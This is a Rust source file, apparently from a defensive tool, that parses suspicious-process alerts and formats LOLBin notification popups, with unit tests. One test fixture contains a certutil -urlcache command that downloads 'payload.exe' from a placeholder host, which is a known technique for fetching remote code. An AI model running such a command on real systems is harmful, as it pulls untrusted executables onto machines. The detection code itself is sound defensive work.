//! Alert Records
//!
//! Deserializes suspicious-process events from the backend and derives
//! the notification content and the identity key used for de-duplication.

use serde::Deserialize;

/// Maximum number of command-line characters shown in a popup body.
const COMMAND_PREVIEW_CHARS: usize = 50;

/// Fixed prefix for derived alert identities.
const KEY_PREFIX: &str = "alert";

/// One suspicious process execution as reported by the backend.
///
/// The agent sends more fields than we consume (`parent_id`, `is_lolbin`,
/// `suspicious`); unknown fields are ignored and missing ones default so a
/// sparse record never aborts a poll cycle.
#[derive(Debug, Clone, Default, Deserialize)]
pub struct Alert {
    #[serde(default)]
    pub process_id: u32,
    #[serde(default)]
    pub executable_path: String,
    #[serde(default)]
    pub command_line: String,
    #[serde(default)]
    pub reason: String,
    #[serde(default)]
    pub timestamp: String,
}

impl Alert {
    /// Identity for de-duplication: same process ID and timestamp = same alert.
    pub fn key(&self) -> String {
        format!("{}-{}-{}", KEY_PREFIX, self.process_id, self.timestamp)
    }

    /// Executable file name without the directory part.
    pub fn process_name(&self) -> &str {
        self.executable_path
            .rsplit(['\\', '/'])
            .next()
            .unwrap_or_default()
    }

    /// Popup title, e.g. `LOLBin Alert: certutil.exe`.
    pub fn title(&self) -> String {
        format!("LOLBin Alert: {}", self.process_name())
    }

    /// Reason reported by the backend, or a generic fallback.
    pub fn reason_text(&self) -> String {
        if self.reason.is_empty() {
            format!("Suspicious {} execution detected", self.process_name())
        } else {
            self.reason.clone()
        }
    }

    /// Popup body: reason plus a truncated command-line preview.
    pub fn body(&self) -> String {
        format!(
            "{}\n\nCommand: {}",
            self.reason_text(),
            truncate_command(&self.command_line)
        )
    }
}

/// Truncates a command line to the preview length, marking the cut with `...`.
fn truncate_command(command: &str) -> String {
    if command.chars().count() > COMMAND_PREVIEW_CHARS {
        let head: String = command.chars().take(COMMAND_PREVIEW_CHARS).collect();
        format!("{}...", head)
    } else {
        command.to_string()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn key_combines_prefix_process_and_timestamp() {
        let alert = Alert {
            process_id: 1234,
            timestamp: "2026-08-07T10:00:00Z".into(),
            ..Default::default()
        };
        assert_eq!(alert.key(), "alert-1234-2026-08-07T10:00:00Z");
    }

    #[test]
    fn key_with_missing_timestamp_is_still_stable() {
        let alert = Alert {
            process_id: 7,
            ..Default::default()
        };
        assert_eq!(alert.key(), "alert-7-");
    }

    #[test]
    fn process_name_strips_windows_path() {
        let alert = Alert {
            executable_path: r"C:\Windows\System32\certutil.exe".into(),
            ..Default::default()
        };
        assert_eq!(alert.process_name(), "certutil.exe");
        assert_eq!(alert.title(), "LOLBin Alert: certutil.exe");
    }

    #[test]
    fn reason_falls_back_when_missing() {
        let alert = Alert {
            executable_path: r"C:\Windows\System32\mshta.exe".into(),
            ..Default::default()
        };
        assert_eq!(
            alert.reason_text(),
            "Suspicious mshta.exe execution detected"
        );
    }

    #[test]
    fn short_command_is_not_truncated() {
        let cmd = "a".repeat(50);
        assert_eq!(truncate_command(&cmd), cmd);
        assert!(!truncate_command(&cmd).ends_with("..."));
    }

    #[test]
    fn long_command_keeps_first_fifty_chars_plus_marker() {
        let cmd = format!("{}{}", "x".repeat(50), "tail");
        let preview = truncate_command(&cmd);
        assert_eq!(preview, format!("{}...", "x".repeat(50)));
        assert_eq!(preview.chars().count(), 53);
    }

    #[test]
    fn deserializes_backend_record_with_extra_fields() {
        let raw = r#"{
            "process_id": 1234,
            "timestamp": "t1",
            "executable_path": "C:\\Windows\\System32\\certutil.exe",
            "command_line": "certutil -urlcache -f http://x -split -f payload.exe",
            "reason": "Suspicious certutil execution",
            "parent_id": 4,
            "is_lolbin": true,
            "suspicious": true
        }"#;
        let alert: Alert = serde_json::from_str(raw).unwrap();
        assert_eq!(alert.title(), "LOLBin Alert: certutil.exe");
        assert_eq!(alert.key(), "alert-1234-t1");
        let body = alert.body();
        assert!(body.starts_with("Suspicious certutil execution"));
        assert!(body.contains("Command: certutil -urlcache -f http://x -split -f payload.e..."));
    }

    #[test]
    fn deserializes_sparse_record_with_defaults() {
        let alert: Alert = serde_json::from_str("{}").unwrap();
        assert_eq!(alert.process_id, 0);
        assert_eq!(alert.process_name(), "");
        assert_eq!(alert.key(), "alert-0-");
    }
}
